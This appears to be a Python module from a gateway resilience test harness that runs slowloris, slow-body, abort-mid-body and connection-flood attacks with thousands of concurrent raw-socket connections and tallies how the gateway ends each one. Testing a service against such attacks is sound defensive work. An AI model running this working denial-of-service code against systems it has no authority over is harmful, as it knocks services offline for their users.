"""The attacks of issue 11 on a gateway, each a set of asyncio loops on raw sockets, run together
in a process of their own (`run`) so that they don't slow the normal client's measurements.

- slowloris: connections that send a request's headers one byte a second;
- slow body: connections that send whole headers, then the body one byte a second;
- abort mid-body: connections that send headers and half the body, then close at once;
- flood: connections that are opened and held without sending anything.

Every loop opens a new connection when the gateway closes its last one, until the time is up.
Each attack counts its connections and how they ended: an answer's status, or closed unanswered.
The attacks run at the lowest CPU priority (see `run`).
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import resource
import statistics
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from multiprocessing.connection import Connection
from typing import Any

BODY = b'[{"sepal_length":5.1,"sepal_width":3.5,"petal_length":1.4,"petal_width":0.2}]'
CONNECT_TIMEOUT_S = 5.0


@dataclass
class Tally:
    """What one attack did: connections opened, how each ended, how long the gateway let each live."""

    opened: int = 0
    failed_to_connect: int = 0
    endings: Counter[str] = field(default_factory=Counter)
    held_s: list[float] = field(default_factory=list)

    def summary(self) -> dict[str, object]:
        held = sorted(self.held_s)
        return {"opened": self.opened, "failed_to_connect": self.failed_to_connect, "endings": dict(self.endings),
                "held_median_s": statistics.median(held) if held else None, "held_max_s": held[-1] if held else None}


@dataclass(frozen=True)
class Plan:
    host: str
    port: int
    path: str
    duration_s: float
    slowloris: int = 500  # connections at a time
    slow_body: int = 500
    abort_loops: int = 50  # each opens ~10 connections a second
    flood: int = 4500


Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter, Plan], Awaitable[None]]


async def _drip(writer: asyncio.StreamWriter, data: bytes, deadline: float) -> None:
    for byte in data:
        if time.monotonic() > deadline:
            return
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(1.0)


def _headers(plan: Plan, length: int) -> bytes:
    return (b"POST %s HTTP/1.1\r\nhost: %s\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n"
            % (plan.path.encode(), plan.host.encode(), length))


async def slowloris(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, plan: Plan) -> None:
    await _drip(writer, _headers(plan, len(BODY)), time.monotonic() + plan.duration_s)


async def slow_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, plan: Plan) -> None:
    writer.write(_headers(plan, len(BODY)))
    await _drip(writer, BODY, time.monotonic() + plan.duration_s)


async def abort_mid_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, plan: Plan) -> None:
    writer.write(_headers(plan, len(BODY)) + BODY[: len(BODY) // 2])
    await writer.drain()  # then the loop aborts the connection: gone mid-body, as a killed client is
    await asyncio.sleep(0.1)  # paces this loop at about 10 connections a second


async def flood(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, plan: Plan) -> None:
    await asyncio.sleep(plan.duration_s)  # hold it, say nothing


async def _loop(attack: Attack, plan: Plan, tally: Tally, stop_at: float) -> None:
    while time.monotonic() < stop_at:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(plan.host, plan.port), CONNECT_TIMEOUT_S)
        except (OSError, TimeoutError):
            tally.failed_to_connect += 1
            await asyncio.sleep(0.1)
            continue
        tally.opened += 1
        opened = time.monotonic()
        sender = asyncio.ensure_future(attack(reader, writer, plan))
        ending = await _ending(reader, sender, stop_at)
        if ending != "still open at the end":
            tally.held_s.append(time.monotonic() - opened)
        tally.endings[ending] += 1
        sender.cancel()
        writer.transport.abort()


async def _ending(reader: asyncio.StreamReader, sender: asyncio.Future[None], stop_at: float) -> str:
    """How the connection ended: the status the gateway answered, closed unanswered, or ours."""
    reading = asyncio.ensure_future(reader.read(65536))
    both: set[asyncio.Future[Any]] = {reading, sender}
    done, _ = await asyncio.wait(both, timeout=max(0.0, stop_at - time.monotonic()),
                                 return_when=asyncio.FIRST_COMPLETED)
    if reading not in done:
        reading.cancel()
        return "closed by the client" if sender in done else "still open at the end"
    with contextlib.suppress(asyncio.CancelledError):
        try:
            data = reading.result()
        except (OSError, asyncio.IncompleteReadError):
            return "reset by the gateway"
        return f"answered {data[9:12].decode()}" if data.startswith(b"HTTP/1.1 ") else "closed unanswered"
    return "closed unanswered"


async def attack_all(plan: Plan) -> dict[str, dict[str, object]]:
    stop_at = time.monotonic() + plan.duration_s
    attacks: dict[str, tuple[Attack, int]] = {"slowloris headers": (slowloris, plan.slowloris),
                                              "slow body": (slow_body, plan.slow_body),
                                              "abort mid-body": (abort_mid_body, plan.abort_loops),
                                              "connection flood": (flood, plan.flood)}
    tallies = {name: Tally() for name in attacks}
    loops = [_loop(attack, plan, tallies[name], stop_at) for name, (attack, count) in attacks.items()
             for _ in range(count)]
    await asyncio.gather(*loops)
    return {name: tally.summary() for name, tally in tallies.items()}


def run(plan: Plan, results: Connection) -> None:
    """In a child process: every attack at once for plan.duration_s, the tallies sent back. At the
    lowest CPU priority: a real attacker is not on the gateway's machine, and on a small one its
    own CPU would otherwise starve the servers and the client being measured."""
    os.nice(19)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    import uvloop

    results.send(uvloop.run(attack_all(plan)))
